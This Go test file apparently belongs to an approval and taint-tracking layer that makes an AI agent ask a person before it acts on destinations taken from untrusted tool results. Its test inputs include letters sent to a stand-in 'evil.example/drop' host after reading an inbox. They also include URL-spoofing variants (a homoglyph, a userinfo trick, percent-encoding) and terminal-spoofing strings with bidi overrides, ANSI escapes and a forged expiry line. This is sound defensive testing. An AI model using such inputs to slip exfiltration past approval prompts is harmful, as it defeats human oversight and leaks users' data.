package main_test

import (
	"encoding/json"
	"regexp"
	"strings"
	"testing"

	"github.com/nacre-dev/nacre"
)

// dry asks what would be decided on a letter, without sending it.
func dry(to string) string { return `ipc --dry-run send '{"to":"` + to + `"}'` }

// letter sends it.
func letter(to string) string { return `ipc send '{"to":"` + to + `"}'` }

// K-26, M-52: what a tainted session sends where an outsider told it to is asked. Where the
// operator or a trusted result told it to, it is not.
func TestATaintedSessionAsksForWhatOthersChose(t *testing.T) {
	t.Parallel()
	i := desk(t, deskTools)
	const task = "answer the letter of https://friend.example/box"
	said := i.play(task,
		dry("https://new.example/"), // before it has listened to anybody
		`ipc inbox '{}'; ipc people '{}'`,
		dry("https://evil.example/drop"), dry("HTTPS://EVIL.example/drop"), dry("https://new.example/"), dry("https://friend.example/box"),
		dry("https://bob.example/box"), dry("https://friend.example/box.evil.example"), dry("https://evil.example/box"), dry("DE-4711"),
		`ipc say '{"text":"https://laundered.example/"}'`, dry("https://laundered.example/"),
		letter("https://friend.example/box"), dry("https://friend.example/box?next=https://evil.example/drop"), dry("https://evil%2eexample/drop"),
		dry("https://frıend.example/box"), dry("https://friend.example@evil.example/box"), dry("  https://FRIEND.example/box"))
	for n, want := range map[int]string{0: "allow", 2: "ask", 3: "ask", 4: "ask", 5: "allow", 6: "allow", 7: "ask", 8: "ask", 9: "ask", 11: "ask", 13: "ask", 14: "ask",
		15: "ask", 16: "ask", 17: "allow"} {
		if !strings.Contains(said[n], `"verdict":"`+want+`"`) {
			t.Errorf("%d: want %s, have %s", n, want, said[n])
		}
	}
	has(t, said[12], `"sent"`)
	if have := i.done(); have != "say https://laundered.example/\nsend https://friend.example/box \n" {
		t.Errorf("it did %q", have)
	}
}

// K-26: what the operator typed as a command is the operator's word, and what stands in
// the files of the project is not.
func TestACommandsWordsAreTheOperators(t *testing.T) {
	t.Parallel()
	i := desk(t, deskTools)
	i.write("p/answer.sh", "ipc inbox '{}'\nipc --dry-run send \"{\\\"to\\\":\\\"$1\\\"}\"\n"+dry("https://written.example/")+"\n"+dry("https://evil.example/drop")+"\n")
	said := i.nacre("exec", "-q", "--project", "p", "--", "sh", "answer.sh", "https://friend.example/box").stdout
	verdicts := regexp.MustCompile(`"verdict":"(\w+)"`).FindAllStringSubmatch(said, -1)
	if len(verdicts) != 3 || verdicts[0][1] != "allow" || verdicts[1][1] != "ask" || verdicts[2][1] != "ask" {
		t.Errorf("have %v in %s", verdicts, said)
	}
}

// K-29: a person reads the text that the values of a call are from, and hands authority to it once.
// What it says is not asked any more, and what another says is.
func TestAPersonHandsAuthorityToAText(t *testing.T) {
	t.Parallel()
	i := desk(t, deskTools)
	i.write("p/mail.sh", strings.Join([]string{"ipc inbox '{}'", letter("https://evil.example/drop"), dry("https://evil.example/drop"), dry("DE-4711"), dry("https://stranger.example/")}, "\n"))
	r := i.begin("exec", "-q", "--session", "mail", "--project", "p", "--", "sh", "mail.sh")
	q := i.question()
	i.nacre("approvals", "show", q.ID).want(t, 0, "all of them are from one text, result of desk.inbox", "every letter goes to https://evil.example/drop", "--scope text")
	i.nacre("approvals", "approve", q.ID, "--scope", "text", "--for", "15m").want(t, 2, "until the session ends")
	i.nacre("approvals", "deny", q.ID, "--scope", "text").want(t, 2, "--scope text")
	i.nacre("approvals", "approve", q.ID, "--scope", "text").want(t, 0, "what the text says is trusted until the session ends")
	have := finish(t, r)
	verdicts := regexp.MustCompile(`"verdict":"(\w+)"`).FindAllStringSubmatch(have.stdout, -1)
	if len(verdicts) != 3 || verdicts[0][1] != "allow" || verdicts[1][1] != "allow" || verdicts[2][1] != "ask" {
		t.Errorf("have %v in %s", verdicts, have.stdout)
	}
	has(t, i.told("mail"), `"scope":"text"`)
}

// K-26, D-13: who is asked sees where the value came from, in both places, and
// what was approved is what ran.
func TestAQuestionSaysWhereAValueCameFrom(t *testing.T) {
	t.Parallel()
	i := desk(t, deskTools)
	r := i.plays("work", "read my letters", `ipc inbox '{}'`, letter("https://evil.example/drop"), letter("https://made.up.example/"))
	first := i.question()
	if len(first.Origins) != 1 || first.Origins[0].Provenance != nacre.SeenUntrusted || first.Origins[0].Argument != "to" {
		t.Errorf("have %+v", first)
	}
	i.nacre("approvals", "list").want(t, 0, "to came from an UNTRUSTED source: result of desk.inbox", "https://evil.example/drop", "not every value")
	i.nacre("approvals", "approve", first.ID).want(t, 0, "answered")
	second := i.next(first)
	i.nacre("approvals", "list").want(t, 0, "to came from nowhere that is known")
	i.nacre("approvals", "deny", second.ID).want(t, 0)
	said := i.said(r, "work")
	has(t, said[1], `"sent"`)
	has(t, said[2], `"CONFIRMATION_DENIED"`)
	if have := i.done(); have != "send https://evil.example/drop \n" {
		t.Errorf("it did %q", have)
	}
	i.approved(first)
}

// next is the question that comes after another.
func (i *installation) next(after ...nacre.Question) nacre.Question {
	i.t.Helper()
	var found nacre.Question
	eventually(i.t, "another question", func() bool {
		for _, q := range i.questions() {
			known := false
			for _, old := range after {
				known = known || q.ID == old.ID
			}
			if found = q; !known {
				return true
			}
		}
		return false
	})
	return found
}

// approved wants the one call that began under the question to be the one that
// was asked for, by digest.
func (i *installation) approved(q nacre.Question) {
	i.t.Helper()
	seen := map[string]int{}
	for _, line := range strings.Split(strings.TrimSpace(i.records("work")), "\n") {
		if !strings.Contains(line, q.Digest) {
			continue
		}
		var e struct {
			Kind   string
			Detail struct {
				Digest, Approval string
				Capability       nacre.CapabilityID
				Arguments        struct{ SHA256 string }
			}
		}
		if err := json.Unmarshal([]byte(line), &e); err != nil {
			i.t.Fatal(err)
		}
		d := e.Detail
		switch seen[e.Kind]++; e.Kind {
		case "approval.ask", "approval.reply":
			if d.Digest != q.Digest || d.Capability != q.Capability {
				i.t.Errorf("%s of another question: %s", e.Kind, line)
			}
		case "call.begin":
			if d.Approval != q.Digest || d.Capability != q.Capability || d.Arguments.SHA256 != digestOf(q.Arguments) {
				i.t.Errorf("what began is not what was approved: %s", line)
			}
		}
	}
	if seen["approval.ask"] != 1 || seen["approval.reply"] != 1 || seen["call.begin"] != 1 {
		i.t.Errorf("of question %s there are %v", q.ID, seen)
	}
}

// K-26: the terminal shows it too.
func TestTheTerminalSaysWhereAValueCameFrom(t *testing.T) {
	t.Parallel()
	i := desk(t, deskTools)
	recording := i.write("r.jsonl", `{"v":1,"name":"r"}
{"tool":"shell","input":{"command":"ipc inbox '{}'; ipc send '{\"to\":\"https://evil.example/drop\"}'; echo x > new.txt"}}
`)
	screen, wait := i.terminal("run", "read my letters", "--project", "p", "--recording", recording, "--check", "true")
	screen.until("UNTRUSTED source: result of desk.inbox")
	screen.until("approve? y or n")
	screen.typeIn("n\r")
	wait().want(t, 0, "1 denied", "1 asked")
	if have := i.done(); have != "" {
		t.Errorf("it did %q", have)
	}
}

// D-20, K-25: what the operator says of a tool counts, not what its author does.
func TestTheOperatorsPinsWin(t *testing.T) {
	t.Parallel()
	for name, c := range map[string]struct {
		pins     string
		commands []string
		want     string
	}{
		"a class":             {"[tools.rows]\nsafety_class = \"DESTRUCTIVE\"\n", []string{`ipc --dry-run rows '{"count":1}'`}, `"verdict":"ask"`},
		"a risk":              {"[tools.say]\nhigh_risk = true\n", []string{`ipc --dry-run say '{"text":"x"}'`}, `"verdict":"ask"`},
		"a sensitivity":       {"[tools.people]\nsensitivity = \"PII\"\n", []string{`ipc --dry-run people '{}'`}, `"verdict":"ask"`},
		"a trusted result":    {"[tools.inbox]\nreturns = \"trusted\"\n", []string{`ipc inbox '{}'`, dry("https://evil.example/drop")}, `"verdict":"allow"`},
		"an untrusted result": {"[tools.people]\nreturns = \"untrusted\"\n", []string{`ipc people '{}'`, dry("https://bob.example/box")}, `"verdict":"ask"`},
		"other sinks": {"[tools.send]\nsinks = [\"text\"]\n", []string{
			`ipc inbox '{}'`, `ipc --dry-run send '{"to":"https://evil.example/drop","text":"a task"}'`}, `"verdict":"allow"`},
		"nothing": {"", []string{`ipc --dry-run rows '{"count":1}'`}, `"safety_class":"READ"`},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			i := desk(t, deskTools+c.pins)
			said := i.play("a task", c.commands...)
			has(t, said[len(said)-1], c.want)
		})
	}
	for pins, want := range map[string]string{
		"[tools.sned]\nhigh_risk = true\n":          "[tools.sned]: no plugin has a tool of this name",
		"[tools.send]\nsafety_class = \"HARMLESS\"": "HARMLESS",
		"[tools.send]\nsafety = \"READ\"\n":         `unknown key "tools.send.safety"`,
		"[tools.\"Send it\"]\nhigh_risk = true\n":   "Send it",
		"trusted_projects = [\"p\"]\n":              "trusted_projects",
	} {
		t.Run(want, func(t *testing.T) {
			t.Parallel()
			i := desk(t, pins+deskTools)
			r := i.nacre("run", "x", "--project", "p", "--recording", i.write("r.jsonl", `{"v":1,"name":"r"}`+"\n"), "--check", "true")
			if r.code != 2 || !strings.Contains(r.stderr, want) {
				t.Errorf("%d %s%s", r.code, r.stdout, r.stderr)
			}
		})
	}
}

func shred(name string) string { return `ipc shred '{"name":"` + name + `"}'` }

// D-13: a person decides once, for a time, for all of a tool, or never.
func TestARulingStandsForWhatItWasGiven(t *testing.T) {
	t.Parallel()
	i := desk(t, deskTools+"[tools.send]\nhigh_risk = true\n")
	text := func(to, text string) string { return `ipc send '{"to":"` + to + `","text":"` + text + `"}'` }
	r := i.plays("work", "tidy up", text("a", "1"), text("a", "2"), text("a", "3"), text("b", "4"), text("c", "5"), `ipc rows '{"count":1}'`)
	once := i.question()
	i.nacre("approvals", "approve", once.ID, "--times", "1").want(t, 0) // once: the same is asked again
	timed := i.next(once)
	i.nacre("approvals", "approve", timed.ID, "--for", "15m", "--times", "2").want(t, 0, "2 times in all within 15 minutes") // the third passes (U-12)
	other := i.next(once, timed)
	has(t, string(other.Arguments), `"to":"b"`)
	i.nacre("approvals", "approve", other.ID, "--for", "15m", "--scope", "tool").want(t, 0) // and so does the fifth
	i.said(r, "work")
	// Another session knows nothing of it; and no is no.
	again := i.plays("again", "tidy up", text("a", "6"), text("z", "7"), `ipc say '{"text":"on"}'`)
	i.nacre("approvals", "deny", i.question().ID, "--for", "8h", "--scope", "tool").want(t, 0)
	said := i.said(again, "again")
	has(t, said[0], `"CONFIRMATION_DENIED"`)
	has(t, said[1], `"CONFIRMATION_DENIED"`, "for a time")
	has(t, said[2], `"on"`)
	if have := i.done(); have != "send a 1\nsend a 2\nsend a 3\nsend b 4\nsend c 5\nrows 1\nsay on\n" {
		t.Errorf("it did %q", have)
	}
	for session, want := range map[string]int{"work": 3, "again": 1} {
		if have := strings.Count(i.records(session), `"kind":"approval.ask"`); have != want {
			t.Errorf("%d questions of session %s", have, session)
		}
	}
	i.nacre("audit", "verify").want(t, 0)
}

// D-13: two questions at once are two: an answer to one is none to the other.
func TestAnAnswerIsToOneQuestion(t *testing.T) {
	t.Parallel()
	i := desk(t, deskTools)
	r := i.plays("work", "tidy up", shred("good")+` & `+shred("bad")+` & wait`)
	eventually(t, "two questions", func() bool { return len(i.questions()) == 2 })
	var good, bad nacre.Question
	for _, q := range i.questions() {
		if strings.Contains(string(q.Arguments), "good") {
			good = q
		} else {
			bad = q
		}
	}
	if good.Digest == bad.Digest || good.ID == bad.ID {
		t.Fatalf("have %+v and %+v", good, bad)
	}
	i.nacre("approvals", "approve", good.ID).want(t, 0)
	i.nacre("approvals", "deny", bad.ID).want(t, 0)
	has(t, i.said(r, "work")[0], "shredded", `"CONFIRMATION_DENIED"`)
	if have := i.done(); have != "shred good\n" {
		t.Errorf("it did %q", have)
	}
	i.approved(good)
}

// D-07: who goes away is not asked for any longer.
func TestAQuestionEndsWithItsClient(t *testing.T) {
	t.Parallel()
	i := desk(t, deskTools)
	r := i.plays("work", "tidy up", shred("a")+` & p=$!; `+untilTold("work", "go")+`; kill -9 $p`, untilTold("work", "on")+`; ipc say '{"text":"on"}'`)
	q := i.question()
	i.tell("work", "go")
	eventually(t, "no question", func() bool { return len(i.questions()) == 0 })
	i.nacre("approvals", "approve", q.ID).want(t, 1)
	i.tell("work", "on")
	has(t, i.said(r, "work")[1], `"on"`)
	if have := i.done(); have != "say on\n" {
		t.Errorf("it did %q", have)
	}
}

// D-13: what is shown is data: nothing in it moves the cursor or reorders text.
func TestAQuestionIsShownAsData(t *testing.T) {
	t.Parallel()
	i := desk(t, deskTools)
	r := i.plays("work", "tidy up", `printf '%s' '{"name":"a\u202egnp.exe\u001b[2J\u200b\u0007"}' | ipc --justification "$(printf 'go\nexpires    never \342\200\256')" shred -`)
	q := i.question()
	shown := i.nacre("approvals", "list")
	shown.want(t, 0, "U+202E", "the agent says (not checked)")
	hasNo(t, shown.stdout, "\u202e", "\x1b", "\u200b", "\a", "\nexpires    never")
	i.nacre("approvals", "deny", q.ID).want(t, 0)
	i.said(r, "work")
	hasNo(t, r.stdout.String()+r.stderr.String(), "\u202e", "\u200b", "\a")
}

// U-12, D-13: what a list cuts is approved by nobody who was not shown all of it.
func TestWhatAListCutsIsApprovedWhole(t *testing.T) {
	t.Parallel()
	i := desk(t, deskTools)
	r := i.plays("work", "tidy up", `printf '{"name":"%s.txt"}' "$(head -c 5000 /dev/zero | tr '\0' x)" | ipc shred -`)
	q := i.question()
	i.nacre("approvals", "list").want(t, 0, "CUT", "nacre approvals show "+q.ID+" has all of it")
	i.nacre("approvals", "approve", q.ID).want(t, 2, "nothing was approved", "--whole")
	i.nacre("approvals", "show", q.ID).want(t, 0, "xxx.txt", "nacre approvals approve "+q.ID+" --whole")
	i.nacre("approvals", "approve", q.ID, "--whole").want(t, 0, "approved")
	i.said(r, "work")
}

// policyFile puts a policy into the config folder.
func (i *installation) policyFile(name, text string) { i.write("home/.config/nacre/"+name, text) }

const deskPolicy = `rules:
  - name: few rows
    action: allow
    match: {capability: ["desk.rows"], intent: ["clean*"], scope: {area: north}, channel: [terminal]}
    constraints: {max_rows: 12, allowed_fields: [id, status]}
  - name: letters to us
    action: allow
    match: {tool: [send], group: [main], arguments: {to: "https://us.example/**"}}
  - name: pinned
    action: allow
    match: {tool: [say]}
    constraints: {arguments: {pinned: {text: hello}}}
  - name: nothing else leaves
    action: deny
    match: {tool: [send]}
    reason: letters go to us only
  - name: by mail
    action: allow
    match: {tool: [shred], channel: [mail]}
  - name: the core
    action: allow
    match: {capability: ["core.*"]}
`

// K-05, D-12: the operator's policy decides on intent, scope, channel and
// arguments, and narrows what it allows.
func TestAPolicyOfTheOperatorDecides(t *testing.T) {
	t.Parallel()
	for _, name := range []string{"main", "plain"} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			i := desk(t, deskTools+"intent = \"cleaning up\"\nscope = { area = \"north\" }\n"+strings.Replace(deskTools, "main", "plain", 1))
			i.policyFile("policy.yaml", deskPolicy)
			r := i.played(name, `ipc rows '{"count":40}'`, expand2(`{"offset":10}`), expand2(`{"offset":20}`), letter("https://us.example/a/b"),
				letter("https://us.example@evil.example/a"), letter("https://us.example.evil.example/"), `ipc say '{"text":"hello"}'`, `ipc say '{"text":"hullo"}'`,
				shred("a"), `ipc people '{}'`, expand2(`{"filter":{"area":"north"}}`), expand2(`{"fields":["name"]}`))
			if name == "plain" {
				has(t, r[0], `"UNAUTHORIZED"`)
				has(t, r[3], `"UNAUTHORIZED"`)
				return
			}
			has(t, r[0], `{"id":0,"status":"open"}`)
			hasNo(t, r[0]+r[1], `"name"`, "row number", `"id":12`, "north")
			hasNo(t, r[2], `"id":2`)
			has(t, r[3], `"sent"`)
			has(t, r[4], `"UNAUTHORIZED"`, "letters go to us only")
			has(t, r[5], `"UNAUTHORIZED"`)
			has(t, r[6], `"hello"`)
			has(t, r[7], `"UNAUTHORIZED"`, "text")
			has(t, r[8], `"UNAUTHORIZED"`)
			has(t, r[9], `"UNAUTHORIZED"`)
			for _, refused := range r[10:] {
				hasNo(t, refused, "row number", `"area"`)
			}
			if have := i.done(); have != "rows 40\nsend https://us.example/a/b \nsay hello\n" {
				t.Errorf("it did %q", have)
			}
		})
	}
}

// expand2 takes the handle from what the first command said.
func expand2(query string) string {
	return `sed 's/.*"id":"\(h_[0-9a-f]*\)".*/\1/' said/work/0 > handle; ` + expand(query)
}

// played is play for a group.
func (i *installation) played(group string, commands ...string) []string {
	i.t.Helper()
	return i.said(i.playsAs(group, "work", "a task", commands...), "work")
}

// K-05, M-61: a policy that cannot be used stops everything, and says where.
func TestAPolicyThatCannotBeUsedIsRefused(t *testing.T) {
	t.Parallel()
	const rule = "rules:\n  - name: x\n    action: allow\n    match: {safety_class: [READ]}\n"
	for name, c := range map[string]struct {
		files map[string]string
		want  []string
	}{
		"two policies":       {map[string]string{"policy.yaml": rule, "policy.toml": ""}, []string{"policy.toml", "policy.yaml", "both there"}},
		"two spellings":      {map[string]string{"policy.yaml": rule, "policy.yml": rule}, []string{"both there"}},
		"an allow default":   {map[string]string{"policy.yaml": "default: allow\n" + rule}, []string{"policy.yaml", "allow"}},
		"a typo":             {map[string]string{"policy.yaml": rule + "    role: [admin]\n"}, []string{"policy.yaml:5", "role"}},
		"a typo in a match":  {map[string]string{"policy.yaml": "rules:\n  - name: x\n    action: allow\n    match:\n      safety_class: [READ]\n      role: [admin]\n"}, []string{"policy.yaml:6", "roles"}},
		"a typo in TOML":     {map[string]string{"policy.toml": "[[rules]]\nname = \"x\"\naction = \"allow\"\n[rules.match]\nrole = [\"admin\"]\n"}, []string{"policy.toml:5", "roles"}},
		"an unknown action":  {map[string]string{"policy.yml": strings.Replace(rule, "allow", "permit", 1)}, []string{"policy.yml:3", "permit"}},
		"no match":           {map[string]string{"policy.yml": "rules:\n  - name: x\n    action: allow\n"}, []string{"policy.yml:", "match"}},
		"an anchor":          {map[string]string{"policy.yml": strings.Replace(rule, "[READ]", "&a [READ]", 1)}, []string{"policy.yml:4"}},
		"twice the same key": {map[string]string{"policy.yml": rule + "    action: deny\n"}, []string{"policy.yml:5", "action"}},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			i := install(t)
			for file, text := range c.files {
				i.policyFile(file, text)
			}
			have := i.nacre("sessions", "list")
			if have.code != 2 {
				t.Errorf("exit %d: %s%s", have.code, have.stdout, have.stderr)
			}
			has(t, have.stderr, c.want...)
		})
	}
	i := install(t)
	i.policyFile("policy.yaml", strings.Replace(rule, "allow", "deny", 1))
	i.nacre("exec", "-q", "--", "ipc", "get_session_info", "{}").want(t, 1, "UNAUTHORIZED")
}
